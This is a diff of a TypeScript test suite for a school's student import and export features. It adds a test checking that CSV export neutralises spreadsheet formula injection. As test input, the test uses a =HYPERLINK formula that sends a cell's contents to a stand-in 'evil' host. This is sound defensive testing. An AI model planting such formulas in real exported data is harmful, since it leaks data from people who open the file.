@@ -47,8 +47,8 @@ describe("students: import, enrol, tag, filter, export", () => {
     const dry = await importStudentsAction({ org: "acme", csv: CSV, dryRun: true });
     if (!dry.ok) throw new Error(dry.message);
     expect(dry.data.outcomes.map((o) => [o.line, o.action, o.error ? o.error.split(":")[0] : null])).toEqual([
-      [2, "new_account", null],
-      [3, "new_account", null],
+      [2, "new_student", null],
+      [3, "new_student", null],
       [4, "error", "email"],
       [5, "error", "email"],
       [6, "error", "courses"],
@@ -101,8 +101,10 @@ describe("students: import, enrol, tag, filter, export", () => {
     expect(await emails({ tag: "cohort-1", progress: "not_started" })).toEqual(["grace@import.test"]);
     const [row] = await listStudents(acme, { q: "ada@import" });
     expect(row!.progress).toBeGreaterThan(0);
-    const csv = studentsToCsv([{ ...row!, name: '=HYPERLINK("http://evil")' }]);
-    expect(csv.split("\r\n")[1]).toContain("'=HYPERLINK");
+    // Papa Parse's own escaping misses a formula with a line break later in it; ours does not.
+    const csv = studentsToCsv([{ ...row!, name: '=HYPERLINK("http://evil/?d="&A2,"Open")\n&""' }]);
+    expect(csv).toContain(`"'=HYPERLINK`);
+    expect(csv).not.toMatch(/,"?=HYPERLINK/);
   });
 
   it("owners enrol and remove by hand; editors tag but cannot enrol or import; another school gets not found", async () => {
